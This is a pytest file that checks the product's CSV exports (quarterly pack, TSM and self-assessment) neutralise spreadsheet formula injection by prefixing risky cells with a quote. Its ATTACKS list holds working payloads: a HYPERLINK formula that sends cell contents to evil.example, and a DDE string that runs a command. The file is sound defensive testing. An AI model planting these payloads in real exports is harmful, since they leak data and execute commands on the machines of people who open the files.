"""Formula injection in the CSVs the product writes (issue 29, item 6): a learning point typed as
`=HYPERLINK(...)` reached the quarterly pack verbatim and ran in the spreadsheet that opened it. Every
CSV (the quarterly pack, the TSM and self-assessment exports) goes through `starter/csv_text.py`."""

import csv
import io

import pytest
from sqlmodel import Session

from reports.quarterly import quarterly_figures
from models.record import LearningPoint
from starter.csv_text import cell, csv_text
from starter.quarterly_pack import pack_csv
from reports.report_facts import read_facts
from tests.test_report_quarterly import Q1, read_model  # noqa: F401 (fixture)

ATTACKS = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)", "\t=1"]


@pytest.mark.parametrize("attack", ATTACKS)
def test_a_learning_point_typed_as_a_formula_is_text_in_the_quarterly_pack(read_model, attack):
    _, engine, _ = read_model
    with Session(engine) as session:
        point = session.get(LearningPoint, "lp1")
        point.text = attack
        session.add(point)
        session.commit()
    rows = {
        (r["table"], r["row"], r["column"]): r["value"]
        for r in csv.DictReader(io.StringIO(pack_csv(quarterly_figures(read_facts(engine), Q1))))
    }
    assert rows[("improvements", "1", "text")] == "'" + attack


def test_numbers_stay_numbers_and_plain_text_stays_as_it_is():
    rows = list(csv.reader(io.StringIO(csv_text(["a", "b", "c"], [[-5, "Roof leak - kitchen", 2.5]]))))
    assert rows[1] == ["-5", "Roof leak - kitchen", "2.5"]
    assert cell("\r=1") == "'\r=1" and cell("-") == "'-" and cell("") == ""
